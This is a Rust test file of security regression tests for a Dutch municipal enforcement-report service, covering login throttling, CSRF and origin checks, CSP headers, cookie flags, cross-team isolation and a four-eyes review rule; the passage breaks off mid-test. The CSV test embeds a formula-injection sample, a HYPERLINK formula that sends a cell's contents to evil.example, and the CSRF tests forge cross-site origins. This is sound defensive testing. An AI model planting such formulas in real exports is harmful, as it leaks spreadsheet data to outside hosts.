//! Issue 14 item 5: the smaller holes an audit found, each with its regression test.

use thor_tests::{Backend, TestApp, assert_problem, both};

/// Every spelling of a username that the lookup maps to an account spends that account's login
/// budget: `" handhaver"`, `"HANDHAVER "`, a tab. Ten wrong guesses in ten spellings, then the
/// right password is refused too (429), in any spelling.
async fn the_login_throttle_counts_every_spelling_of_a_name(b: Backend) {
    let app = TestApp::spawn(b).await;
    app.demo_accounts().await;
    let spellings = [
        "handhaver",
        " handhaver",
        "handhaver ",
        "HANDHAVER",
        " Handhaver ",
        "\thandhaver",
        "handhaver\n",
        "  hAndhaver",
        "handhaver\t ",
        "\u{a0}handhaver",
    ];
    for (i, name) in spellings.iter().enumerate() {
        let res = app.login_response(name, "wrong password", "phone-1").await;
        assert_eq!(res.status(), 401, "attempt {i} ({name:?})");
    }
    for name in [" handhaver ", "handhaver"] {
        let res = app.login_response(name, "demo", "phone-1").await;
        assert_eq!(res.status(), 429, "{name:?} after ten failures");
        assert!(res.headers().contains_key("retry-after"));
    }
    // Another account from the same address still logs in.
    assert_eq!(
        app.login_response("jeugdboa", "demo", "phone-2")
            .await
            .status(),
        200
    );
    app.stop().await;
}

both!(the_login_throttle_counts_every_spelling_of_a_name);

/// A browser session on the lead page: a client that does not follow redirects, the session
/// cookie of a form login, and the CSRF token the page's forms carry.
struct PageSession {
    client: reqwest::Client,
    cookie: String,
    csrf: String,
}

async fn page_login(app: &TestApp, username: &str) -> PageSession {
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let res = client
        .post(app.url("/login"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(format!("username={username}&password=demo"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303, "form login of {username}");
    let cookie = res.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let page = client
        .get(app.url("/briefing"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let csrf = csrf_of(&page);
    PageSession {
        client,
        cookie,
        csrf,
    }
}

/// The CSRF token in a rendered page; every form carries the same one.
fn csrf_of(page: &str) -> String {
    let tokens: Vec<&str> = page
        .split("name=\"csrf\" value=\"")
        .skip(1)
        .filter_map(|r| r.split('"').next())
        .collect();
    assert!(!tokens.is_empty(), "the page's forms carry a CSRF token");
    assert!(tokens.iter().all(|t| *t == tokens[0] && t.len() >= 40));
    tokens[0].to_string()
}

impl PageSession {
    async fn post(
        &self,
        app: &TestApp,
        path: &str,
        body: &str,
        headers: &[(&str, &str)],
    ) -> reqwest::Response {
        let mut req = self
            .client
            .post(app.url(path))
            .header("cookie", &self.cookie)
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body.to_string());
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        req.send().await.unwrap()
    }

    async fn page(&self, app: &TestApp) -> String {
        self.client
            .get(app.url("/briefing"))
            .header("cookie", &self.cookie)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap()
    }
}

/// The lead page's POST forms need the session's CSRF token, and a POST whose Origin or Referer
/// names another site is refused even with it: 403 problem+json, nothing written.
async fn the_page_forms_need_the_session_csrf_token(b: Backend) {
    let app = TestApp::spawn(b).await;
    app.demo_accounts().await;
    let lead = page_login(&app, "teamleider").await;
    let other = page_login(&app, "teamleider").await;
    assert_ne!(lead.csrf, other.csrf, "a token per session");
    let today = thor::demo::today().to_string();
    let note = |text: &str, csrf: Option<&str>| {
        let mut b = format!("date={today}&text={text}");
        if let Some(c) = csrf {
            b.push_str(&format!("&csrf={c}"));
        }
        b
    };
    let here = app.base.clone();
    let refused: Vec<(String, Vec<(&str, String)>)> = vec![
        // No Origin, no token: what a forged form from a site that strips Origin would send.
        (note("geen-token", None), vec![]),
        (note("leeg-token", Some("")), vec![]),
        (note("ander-token", Some(&other.csrf)), vec![]),
        (note("onzin-token", Some("AAAA")), vec![]),
        // Same origin, but no token.
        (note("zelfde-origin", None), vec![("origin", here.clone())]),
        // The right token, from another site.
        (
            note("andere-site", Some(&lead.csrf)),
            vec![("origin", "https://evil.example".into())],
        ),
        (
            note("andere-poort", Some(&lead.csrf)),
            vec![("origin", format!("http://{}", "127.0.0.1:1"))],
        ),
        (
            note("null-origin", Some(&lead.csrf)),
            vec![("origin", "null".into())],
        ),
        (
            note("andere-referer", Some(&lead.csrf)),
            vec![("referer", "https://evil.example/form.html".into())],
        ),
    ];
    let notes_before = app.count("briefing_note").await;
    for (body, headers) in &refused {
        let h: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let res = lead.post(&app, "/briefing/notes", body, &h).await;
        let problem = assert_problem(res, 403, None).await;
        assert!(
            problem["detail"]
                .as_str()
                .is_some_and(|d| d.contains("CSRF") || d.contains("cross-origin")),
            "{body}: {problem}"
        );
    }
    assert_eq!(
        app.count("briefing_note").await,
        notes_before,
        "nothing written"
    );
    // The session's own token passes, with or without the page's own Origin or Referer.
    for (text, headers) in [
        ("eigen-token", vec![]),
        ("eigen-origin", vec![("origin", here.as_str())]),
        (
            "eigen-referer",
            vec![("referer", &*format!("{here}/briefing"))],
        ),
    ] {
        let res = lead
            .post(
                &app,
                "/briefing/notes",
                &note(text, Some(&lead.csrf)),
                &headers,
            )
            .await;
        assert_eq!(res.status(), 303, "{text}");
    }
    let page = lead.page(&app).await;
    for text in ["eigen-token", "eigen-origin", "eigen-referer"] {
        assert!(page.contains(text), "{text} was written");
    }
    for (body, _) in &refused {
        let text = body
            .split("text=")
            .nth(1)
            .unwrap()
            .split('&')
            .next()
            .unwrap();
        assert!(!page.contains(text), "{text} was not written");
    }
    // Every form of the page: review, sign-off, conflicts, logout refuse a POST without it.
    for path in [
        format!("/briefing/review/{}", uuid::Uuid::new_v4()),
        "/briefing/signoff".to_string(),
        format!("/briefing/conflicts/{}", uuid::Uuid::new_v4()),
        "/logout".to_string(),
    ] {
        let res = lead
            .post(
                &app,
                &path,
                &format!("decision=approved&date={today}&resolution=keep_applied"),
                &[],
            )
            .await;
        assert_problem(res, 403, None).await;
    }
    assert_eq!(
        app.count("briefing_signoff").await,
        0,
        "the sign-off was refused"
    );
    // Logging out with the token ends the session; the old cookie no longer opens the page.
    let res = lead
        .post(&app, "/logout", &format!("csrf={}", lead.csrf), &[])
        .await;
    assert_eq!(res.status(), 303);
    let res = lead
        .client
        .get(app.url("/briefing"))
        .header("cookie", &lead.cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(res.headers()["location"], "/login");
    // The login form has no session to bind a token to; another site's post is refused by origin.
    let res = other
        .client
        .post(app.url("/login"))
        .header("origin", "https://evil.example")
        .header("content-type", "application/x-www-form-urlencoded")
        .body("username=teamleider&password=demo")
        .send()
        .await
        .unwrap();
    assert_problem(res, 403, None).await;
    app.stop().await;
}

both!(the_page_forms_need_the_session_csrf_token);

/// Signing off on the page while reports wait for review asks once: the form without `confirm`
/// is refused naming the field and signs nothing; with it the briefing is signed.
async fn a_sign_off_with_work_open_asks_once(b: Backend) {
    let app = TestApp::spawn(b).await;
    app.load_demo().await;
    let lead = page_login(&app, "teamleider").await;
    let today = thor::demo::today();
    let form = |confirm: bool| {
        format!(
            "date={today}&csrf={}{}",
            lead.csrf,
            if confirm { "&confirm=1" } else { "" }
        )
    };
    let page = lead.page(&app).await;
    assert!(page.contains("id=\"signoff-confirm\""), "the form asks");
    let res = lead
        .post(&app, "/briefing/signoff", &form(false), &[])
        .await;
    assert_problem(res, 422, Some("confirm")).await;
    assert_eq!(app.count("briefing_signoff").await, 0, "nothing signed");
    let res = lead.post(&app, "/briefing/signoff", &form(true), &[]).await;
    assert_eq!(res.status(), 303);
    assert_eq!(app.count("briefing_signoff").await, 1);
}

both!(a_sign_off_with_work_open_asks_once);

/// A submitted report of `hh` with one photo (made from `seed`) whose derivatives are made;
/// returns the report's and the photo's ids and the photo's bytes.
async fn submitted_report_with_photo(
    app: &TestApp,
    hh: &str,
    seed: u8,
) -> (uuid::Uuid, uuid::Uuid, Vec<u8>) {
    let bytes = crate::photos::jpeg(640, 480, seed);
    let (rid, pid) = crate::photos::report_with_derived_photo(app, hh, &bytes).await;
    let res = app
        .patch(
            hh,
            &format!("/api/v1/violations/{rid}"),
            &serde_json::json!({ "status": "submitted" }),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    (rid, pid, bytes)
}

/// The page's session reads through the API (a report's photos for the review list, the
/// exports) but writes nothing there: an API write needs the bearer token.
async fn the_page_session_reads_the_api_and_writes_nothing_there(b: Backend) {
    let app = TestApp::spawn(b).await;
    app.demo_accounts().await;
    let hh = app.login("handhaver", "phone-hh").await;
    let (_, pid, _) = submitted_report_with_photo(&app, &hh, 9).await;

    let lead = page_login(&app, "teamleider").await;
    let page = lead.page(&app).await;
    let thumb = format!("/api/v1/photos/{pid}/thumbnail");
    assert!(page.contains(&thumb), "the review list shows the photo");
    let res = lead
        .client
        .get(app.url(&thumb))
        .header("cookie", &lead.cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "image/jpeg");
    assert!(
        app.count("audit_log WHERE action = 'read_photo'").await >= 1,
        "the read through the page is logged"
    );
    let res = lead
        .client
        .post(app.url("/api/v1/violations"))
        .header("cookie", &lead.cookie)
        .json(&thor_tests::report(uuid::Uuid::new_v4()))
        .send()
        .await
        .unwrap();
    assert_problem(res, 401, None).await;
}

both!(the_page_session_reads_the_api_and_writes_nothing_there);

/// A report's own page shows its evidence (the photo through the page's session, its SHA-256,
/// the officer, the history) and takes the review back for the reviewer; a report the reader
/// may not see is 404, as a Dutch page to a browser and as problem+json to anything else.
async fn a_report_page_shows_its_evidence_and_refusals_read_in_dutch(b: Backend) {
    let app = TestApp::spawn(b).await;
    app.demo_accounts().await;
    let hh = app.login("handhaver", "phone-hh").await;
    let (rid, pid, bytes) = submitted_report_with_photo(&app, &hh, 11).await;
    let lead = page_login(&app, "teamleider").await;
    let get = |path: String, accept: &'static str| {
        lead.client
            .get(app.url(&path))
            .header("cookie", &lead.cookie)
            .header("accept", accept)
    };
    let page = get(format!("/briefing/melding/{rid}"), "text/html")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        page.contains(&format!("/api/v1/photos/{pid}/preview")),
        "{page}"
    );
    let sha = crate::photos::sha_hex(&bytes);
    assert!(page.contains(&sha), "the photo's SHA-256 is on the page");
    assert!(page.contains("aangemaakt"), "the history");
    assert!(page.contains("Goedkeuren"));

    // Approve on the page, then take it back from the banner the list shows.
    let form = format!("decision=approved&csrf={}&back=%2Fbriefing", lead.csrf);
    let res = lead
        .post(&app, &format!("/briefing/review/{rid}"), &form, &[])
        .await;
    assert_eq!(res.status(), 303);
    let to = res.headers()["location"].to_str().unwrap().to_string();
    assert!(to.contains(&format!("gedaan={rid}")), "{to}");
    let list = get(to, "text/html")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        list.contains("is goedgekeurd") && list.contains("Ongedaan maken"),
        "{list}"
    );
    let res = lead
        .post(
            &app,
            &format!("/briefing/review/{rid}/undo"),
            &format!("csrf={}&back=%2Fbriefing", lead.csrf),
            &[],
        )
        .await;
    assert_eq!(res.status(), 303);
    let v: serde_json::Value = app
        .get(&hh, &format!("/api/v1/violations/{rid}"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(v["status"], "submitted");

    let nobody = uuid::Uuid::new_v4();
    let res = get(
        format!("/briefing/melding/{nobody}"),
        "text/html,application/xhtml+xml",
    )
    .send()
    .await
    .unwrap();
    assert_eq!(res.status(), 404);
    assert!(header(&res, "content-type").starts_with("text/html"));
    let html = res.text().await.unwrap();
    assert!(
        html.contains("lang=\"nl\"") && html.contains("Niet gevonden"),
        "{html}"
    );
    let res = get(format!("/briefing/melding/{nobody}"), "application/json")
        .send()
        .await
        .unwrap();
    assert_problem(res, 404, None).await;
}

both!(a_report_page_shows_its_evidence_and_refusals_read_in_dutch);

fn header<'a>(res: &'a reqwest::Response, name: &str) -> &'a str {
    res.headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_else(|| panic!("{} has no {name} header", res.url()))
}

/// The CSP nonce of a page answer, after checking the policy allows no inline script, no inline style
/// without it and no framing, and that every `<style>` of the body carries it.
async fn page_nonce(res: reqwest::Response) -> String {
    assert_eq!(res.status(), 200);
    let csp = header(&res, "content-security-policy").to_string();
    for part in [
        "default-src 'none'",
        "frame-ancestors 'none'",
        "form-action 'self'",
        "base-uri 'none'",
    ] {
        assert!(csp.contains(part), "{part} in {csp}");
    }
    // One script, thor's own file (it registers the offline service worker); nothing inline.
    assert!(
        csp.contains("script-src 'self';")
            && !csp.contains("unsafe-inline")
            && !csp.contains("unsafe-eval"),
        "{csp}"
    );
    assert_eq!(header(&res, "x-frame-options"), "DENY");
    assert_eq!(header(&res, "x-content-type-options"), "nosniff");
    assert_eq!(header(&res, "referrer-policy"), "same-origin");
    let nonce = csp
        .split("style-src 'nonce-")
        .nth(1)
        .and_then(|r| r.split('\'').next())
        .expect("a style nonce")
        .to_string();
    assert!(nonce.len() >= 22, "{nonce}");
    let body = res.text().await.unwrap();
    let styles = body.matches("<style").count();
    assert!(styles >= 1);
    assert_eq!(
        body.matches(&format!("<style nonce=\"{nonce}\">")).count(),
        styles,
        "every style element carries the nonce"
    );
    assert!(
        !body.contains("style=\""),
        "no style attributes (CSP would drop them)"
    );
    assert_eq!(
        body.matches("<script").count(),
        body.matches("<script src=\"/app.js\" defer></script>")
            .count(),
        "no script but thor's own file, none inline"
    );
    nonce
}

/// The lead page sends a CSP (a fresh style nonce per answer, no script), frame, sniffing and
/// referrer headers; every API answer gets the same but a CSP that allows nothing; the session
/// cookie is Secure when thor is told it is served over https.
async fn security_headers_on_the_page_and_every_answer(b: Backend) {
    let app = TestApp::spawn(b.clone()).await;
    app.load_demo().await;
    let client = reqwest::Client::new();
    let first = page_nonce(client.get(app.url("/login")).send().await.unwrap()).await;
    let second = page_nonce(client.get(app.url("/login")).send().await.unwrap()).await;
    assert_ne!(first, second, "a nonce per answer");
    // The briefing page with its SVG charts, each with a <style> of its own.
    let lead = page_login(&app, "teamleider").await;
    let res = lead
        .client
        .get(app.url("/briefing"))
        .header("cookie", &lead.cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(header(&res, "cache-control"), "private, no-store");
    page_nonce(res).await;
    // Every other answer: JSON, problem documents, the fallback, operations, CSV.
    let t = app.login("teamleider", "api").await;
    let today = thor::demo::today();
    for (path, status) in [
        ("/api/v1/auth/me".to_string(), 200),
        ("/api/v1/violations/not-a-uuid".to_string(), 400),
        ("/no/such/route".to_string(), 404),
        ("/healthz".to_string(), 200),
        (
            format!(
                "/api/v1/exports/violations.csv?from={today}{}",
                crate::PROVISION
            ),
            200,
        ),
    ] {
        let res = app.get(&t, &path).send().await.unwrap();
        assert_eq!(res.status(), status, "{path}");
        let csp = header(&res, "content-security-policy");
        assert!(
            csp.contains("default-src 'none'") && csp.contains("frame-ancestors 'none'"),
            "{path}: {csp}"
        );
        assert_eq!(header(&res, "x-frame-options"), "DENY", "{path}");
        assert_eq!(header(&res, "x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header(&res, "referrer-policy"), "no-referrer", "{path}");
    }
    // Over plain http the cookie cannot be Secure (the browser would never send it back) ...
    let login = |headers: &[(&str, &str)]| {
        let mut req = reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .unwrap()
            .post(app.url("/login"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body("username=teamleider&password=demo");
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        req.send()
    };
    let cookie = |res: &reqwest::Response| header(res, "set-cookie").to_string();
    let plain = login(&[]).await.unwrap();
    assert_eq!(plain.status(), 303);
    assert!(cookie(&plain).contains("HttpOnly") && !cookie(&plain).contains("Secure"));
    // ... behind a TLS proxy that says so, it is.
    for proxied in [
        ("x-forwarded-proto", "https"),
        ("forwarded", "for=10.0.0.1;proto=https;host=thor.velsen.nl"),
    ] {
        let res = login(&[proxied]).await.unwrap();
        assert_eq!(res.status(), 303);
        assert!(
            cookie(&res).contains("; Secure"),
            "{proxied:?}: {}",
            cookie(&res)
        );
    }
    app.stop().await;

    // Told it is served over https: always Secure, and the page's forms come from that origin.
    let app =
        TestApp::spawn_with(b, |c| c.public_url = Some("https://thor.velsen.nl".into())).await;
    app.demo_accounts().await;
    let res = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
        .post(app.url("/login"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("username=teamleider&password=demo")
        .send()
        .await
        .unwrap();
    assert!(header(&res, "set-cookie").contains("; Secure"));
    let lead = page_login(&app, "teamleider").await;
    let today = today.to_string();
    let body = format!("date={today}&text=via-proxy&csrf={}", lead.csrf);
    let res = lead
        .post(
            &app,
            "/briefing/notes",
            &body,
            &[("origin", "https://thor.velsen.nl")],
        )
        .await;
    assert_eq!(res.status(), 303);
    let res = lead
        .post(
            &app,
            "/briefing/notes",
            &body,
            &[("origin", "https://thor.velsen.nl.evil.example")],
        )
        .await;
    assert_problem(res, 403, None).await;
    app.stop().await;
}

both!(security_headers_on_the_page_and_every_answer);

/// A CSV export opens in Excel: a description (or any text cell) that starts with `=`, `+`, `-`
/// or `@` would run as a formula there, so it is written with a leading `'`; numbers such as a
/// negative longitude stay numbers.
async fn csv_text_that_looks_like_a_formula_opens_as_text(b: Backend) {
    let app = TestApp::spawn(b).await;
    app.demo_accounts().await;
    let hh = app.login("handhaver", "phone-1").await;
    let lead = app.login("teamleider", "pc").await;
    let texts = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik hier\")",
        "+31612345678 belde de melding in",
        "-5 zakken naast de container",
        "@SUM(1+1)",
        "Gewone omschrijving, a=b",
    ];
    let mut ids = Vec::new();
    for (i, text) in texts.iter().enumerate() {
        let id = uuid::Uuid::new_v4();
        let mut r = thor_tests::report(id);
        r["description"] = serde_json::json!(text);
        if i == texts.len() - 1 {
            // West of Greenwich: a negative longitude, which must stay a number.
            r["location"]["lon"] = serde_json::json!(-4.6);
        }
        let res = app
            .post(&hh, "/api/v1/violations", &r)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 201);
        ids.push(id.to_string());
    }
    let today = thor::demo::today();
    let res = app
        .get(
            &lead,
            &format!(
                "/api/v1/exports/violations.csv?from={today}{}",
                crate::PROVISION
            ),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let body = res.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let head = reader.headers().unwrap().clone();
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let (id_col, text_col, lon_col) = (col("id"), col("omschrijving"), col("lon"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for (id, text) in ids.iter().zip(texts) {
        let row = rows
            .iter()
            .find(|r| &r[id_col] == id)
            .unwrap_or_else(|| panic!("{id} exported"));
        let want = if text.starts_with(['=', '+', '-', '@']) {
            format!("'{text}")
        } else {
            text.to_string()
        };
        assert_eq!(&row[text_col], want, "{text}");
        assert!(
            !row.iter().any(|c| c.starts_with(['=', '+', '@'])),
            "{row:?}"
        );
    }
    let west = rows.iter().find(|r| r[id_col] == ids[4]).unwrap();
    assert_eq!(&west[lon_col], "-4,600000", "a number stays a number");
    app.stop().await;
}

both!(csv_text_that_looks_like_a_formula_opens_as_text);

/// A user of another team, created by the beheerder; returns their id and a token.
async fn other_team_user(app: &TestApp, username: &str, role: &str) -> (String, String) {
    team_user(app, username, role, "Team Zuid").await
}

/// A user of a team (created when new, Wpg-authorised), made by the beheerder; returns their
/// id and a token.
async fn team_user(app: &TestApp, username: &str, role: &str, team: &str) -> (String, String) {
    app.user(username, role, team, true).await
}

async fn user_id(app: &TestApp, username: &str) -> String {
    thor::auth::accounts::find_by_username(&app.state.db.read, username)
        .await
        .unwrap()
        .unwrap()
        .id
        .to_string()
}

/// A report names only users of its own team in `officer_ids`. Another team's user gets 422
/// naming the field, on REST create and PATCH and in a sync push (create and update), and the
/// very same answer as an id that belongs to no one.
async fn officers_on_a_report_are_of_its_team(b: Backend) {
    let app = TestApp::spawn(b).await;
    app.demo_accounts().await;
    let hh = app.login("handhaver", "phone-1").await;
    let (zuid, zuid_token) = other_team_user(&app, "boa.zuid", "handhaver").await;
    let nobody = uuid::Uuid::new_v4().to_string();
    let colleague = user_id(&app, "boa.devries").await;

    // REST create: another team's user and a made-up id get the same problem document.
    let mut problems = Vec::new();
    for officer in [&zuid, &nobody] {
        let mut r = thor_tests::report(uuid::Uuid::new_v4());
        r["officer_ids"] = serde_json::json!([officer]);
        let res = app
            .post(&hh, "/api/v1/violations", &r)
            .send()
            .await
            .unwrap();
        problems.push(assert_problem(res, 422, Some("officer_ids")).await);
    }
    assert_eq!(
        problems[0], problems[1],
        "no hint whether the id exists elsewhere"
    );
    assert!(!problems[0].to_string().contains(&zuid));
    assert_eq!(app.count("violation").await, 0);
    // A colleague of the same team is fine.
    let id = uuid::Uuid::new_v4();
    let mut r = thor_tests::report(id);
    r["officer_ids"] = serde_json::json!([colleague]);
    let res = app
        .post(&hh, "/api/v1/violations", &r)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201);

    // REST PATCH: the same rule and the same answer.
    let mut patched = Vec::new();
    for officer in [&zuid, &nobody] {
        let res = app
            .patch(
                &hh,
                &format!("/api/v1/violations/{id}"),
                &serde_json::json!({ "officer_ids": [user_id(&app, "handhaver").await, officer] }),
            )
            .send()
            .await
            .unwrap();
        patched.push(assert_problem(res, 422, Some("officer_ids")).await);
    }
    assert_eq!(patched[0], patched[1]);
    // And the other way round: team Zuid cannot name a user of this team.
    let mut r = thor_tests::report(uuid::Uuid::new_v4());
    r["officer_ids"] = serde_json::json!([colleague]);
    let res = app
        .post(&zuid_token, "/api/v1/violations", &r)
        .send()
        .await
        .unwrap();
    assert_problem(res, 422, Some("officer_ids")).await;

    // Sync push, create: the record is rejected, naming officer_ids, the same for both ids.
    let at = chrono::Utc::now() - chrono::Duration::minutes(5);
    let row = |id: &str, officers: &str| {
        serde_json::json!({
            "id": id, "_status": "created", "_changed": "",
            "category": "afval", "feitcode": "H004", "observed_at": at.timestamp_millis(),
            "lat": 52.4599, "lon": 4.6218, "accuracy_m": 7, "location_source": "gps",
            "description": "zakken naast container", "outcome": "warning", "status": "concept",
            "officer_ids": officers, "server_rev": null, "base_rev": null
        })
    };
    let (a, c) = (
        uuid::Uuid::now_v7().to_string(),
        uuid::Uuid::now_v7().to_string(),
    );
    let res = app
        .post(
            &hh,
            "/api/v1/sync/push?last_pulled_at=0",
            &serde_json::json!({ "changes": { "violations": {
                "created": [row(&a, &format!("[\"{zuid}\"]")), row(&c, &format!("[\"{nobody}\"]"))],
                "updated": [], "deleted": [] } } }),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let push: serde_json::Value = res.json().await.unwrap();
    assert_eq!(push["applied"], 0, "{push}");
    let rejected = push["rejected"].as_array().unwrap();
    assert_eq!(rejected.len(), 2, "{push}");
    assert_eq!(rejected[0]["id"], a);
    assert_eq!(rejected[0]["errors"][0]["field"], "officer_ids");
    assert_eq!(rejected[0]["errors"], rejected[1]["errors"], "{push}");
    // Sync push, update of the report created above.
    let pull = app
        .get_json(&hh, "/api/v1/sync/pull?last_pulled_at=0")
        .await;
    let mut row = thor_tests::pulled_rows(&pull, "violations")[0].clone();
    row["officer_ids"] = serde_json::json!(format!("[\"{zuid}\"]"));
    let cursor = pull["timestamp"].as_i64().unwrap();
    let res = app
        .post(
            &hh,
            &format!("/api/v1/sync/push?last_pulled_at={cursor}"),
            &serde_json::json!({ "changes": { "violations": { "created": [], "updated": [row], "deleted": [] } } }),
        )
        .send()
        .await
        .unwrap();
    let push: serde_json::Value = res.json().await.unwrap();
    assert_eq!(push["rejected"][0]["id"], id.to_string(), "{push}");
    assert_eq!(
        push["rejected"][0]["errors"][0]["field"], "officer_ids",
        "{push}"
    );
    let stored = app.get_json(&hh, &format!("/api/v1/violations/{id}")).await;
    assert!(
        !stored["officer_ids"].to_string().contains(&zuid),
        "{stored}"
    );
    app.stop().await;
}

both!(officers_on_a_report_are_of_its_team);

/// Creating a report under an id another team's report has is refused with the very 409 a
/// taken id of one's own team gets (the same words, the same fields), and nothing of the other
/// team's report comes back: not even to a retry of the same content by its author after they
/// moved to another team. Reading or changing that id answers like an id no one has.
async fn another_teams_report_id_says_no_more_than_a_taken_one(b: Backend) {
    let app = TestApp::spawn(b).await;
    app.demo_accounts().await;
    let hh = app.login("handhaver", "phone-1").await;
    let (_, zuid) = other_team_user(&app, "boa.zuid", "handhaver").await;
    let id = uuid::Uuid::new_v4();
    let body = thor_tests::report(id);
    let res = app
        .post(&hh, "/api/v1/violations", &body)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201);
    let created: serde_json::Value = res.json().await.unwrap();

    // The same id with other content, from its own team and from the other team.
    let mut other = body.clone();
    other["description"] = serde_json::json!("iets anders");
    let own = assert_problem(
        app.post(&hh, "/api/v1/violations", &other)
            .send()
            .await
            .unwrap(),
        409,
        None,
    )
    .await;
    let foreign = assert_problem(
        app.post(&zuid, "/api/v1/violations", &other)
            .send()
            .await
            .unwrap(),
        409,
        None,
    )
    .await;
    assert_eq!(
        own, foreign,
        "the same answer as for a taken id of one's own team"
    );
    // The other team sending exactly the author's body: still only the 409.
    let same = assert_problem(
        app.post(&zuid, "/api/v1/violations", &body)
            .send()
            .await
            .unwrap(),
        409,
        None,
    )
    .await;
    assert_eq!(same, own);
    let secrets = [
        "Geparkeerd",
        "12ABC3",
        created["team_id"].as_str().unwrap(),
        created["created_by"].as_str().unwrap(),
    ];
    for s in secrets {
        assert!(!own.to_string().contains(s), "{s} in {own}");
    }
    // Reading or changing that id: the answer for an id that does not exist.
    let unknown = uuid::Uuid::new_v4();
    for (path, unknown_path) in [
        (
            format!("/api/v1/violations/{id}"),
            format!("/api/v1/violations/{unknown}"),
        ),
        (
            format!("/api/v1/violations/{id}/duplicates"),
            format!("/api/v1/violations/{unknown}/duplicates"),
        ),
    ] {
        let a = assert_problem(app.get(&zuid, &path).send().await.unwrap(), 404, None).await;
        let b = assert_problem(
            app.get(&zuid, &unknown_path).send().await.unwrap(),
            404,
            None,
        )
        .await;
        assert_eq!(
            a.to_string().replace(&id.to_string(), "ID"),
            b.to_string().replace(&unknown.to_string(), "ID")
        );
    }
    let patch = serde_json::json!({ "description": "overschreven" });
    let a = assert_problem(
        app.patch(&zuid, &format!("/api/v1/violations/{id}"), &patch)
            .send()
            .await
            .unwrap(),
        404,
        None,
    )
    .await;
    let b = assert_problem(
        app.patch(&zuid, &format!("/api/v1/violations/{unknown}"), &patch)
            .send()
            .await
            .unwrap(),
        404,
        None,
    )
    .await;
    assert_eq!(
        a.to_string().replace(&id.to_string(), "ID"),
        b.to_string().replace(&unknown.to_string(), "ID")
    );

    // The author moves to team Zuid (the beheerder's doing) and the phone retries the create:
    // the report is its old team's now, and is not handed back.
    {
        use sea_orm::ConnectionTrait;
        app.state
            .db
            .write
            .execute_unprepared(
                "UPDATE app_user SET team_id = (SELECT id FROM team WHERE name = 'Team Zuid') \
                 WHERE username = 'handhaver'",
            )
            .await
            .unwrap();
    }
    let retry = assert_problem(
        app.post(&hh, "/api/v1/violations", &body)
            .send()
            .await
            .unwrap(),
        409,
        None,
    )
    .await;
    assert_eq!(retry, own);
    app.stop().await;
}

both!(another_teams_report_id_says_no_more_than_a_taken_one);

/// A submitted report of `token`'s user, naming `officers` too; returns its id.
async fn submitted(app: &TestApp, token: &str, officers: &[&str]) -> String {
    let id = uuid::Uuid::new_v4();
    let mut r = thor_tests::report(id);
    r["status"] = serde_json::json!("submitted");
    r["officer_ids"] = serde_json::json!(officers);
    let res = app
        .post(token, "/api/v1/violations", &r)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201);
    id.to_string()
}

async fn review(app: &TestApp, token: &str, id: &str, decision: &str) -> reqwest::Response {
    app.patch(
        token,
        &format!("/api/v1/violations/{id}"),
        &serde_json::json!({ "status": decision, "review_note": "gezien" }),
    )
    .send()
    .await
    .unwrap()
}

/// Four eyes: a teamleider does not approve or reject a report they created or are named on
/// (also not after naming themselves off it); 403 saying why, on REST, the lead page and the
/// sync push alike. Another lead of the team does. `THOR_FOUR_EYES=false` lifts the rule.
async fn a_lead_does_not_review_their_own_report(b: Backend) {
    let app = TestApp::spawn(b.clone()).await;
    app.demo_accounts().await;
    let lead = app.login("teamleider", "pc").await;
    let hh = app.login("handhaver", "phone-1").await;
    let (_, lead2) = team_user(&app, "lead.twee", "teamleider", thor::demo::TEAM).await;
    let lead_id = user_id(&app, "teamleider").await;

    let own = submitted(&app, &lead, &[]).await;
    let named = submitted(&app, &hh, &[&lead_id]).await;
    let plain = submitted(&app, &hh, &[]).await;
    for id in [&own, &named] {
        for decision in ["approved", "rejected"] {
            let problem = assert_problem(review(&app, &lead, id, decision).await, 403, None).await;
            assert!(
                problem["detail"].as_str().unwrap().contains("four-eyes"),
                "{problem}"
            );
        }
        let v = app
            .get_json(&lead, &format!("/api/v1/violations/{id}"))
            .await;
        assert_eq!(v["status"], "submitted");
    }
    assert_eq!(review(&app, &lead, &plain, "approved").await.status(), 200);

    // Naming oneself off the report first does not make one the second pair of eyes.
    let hh_id = user_id(&app, "handhaver").await;
    let res = app
        .patch(
            &lead,
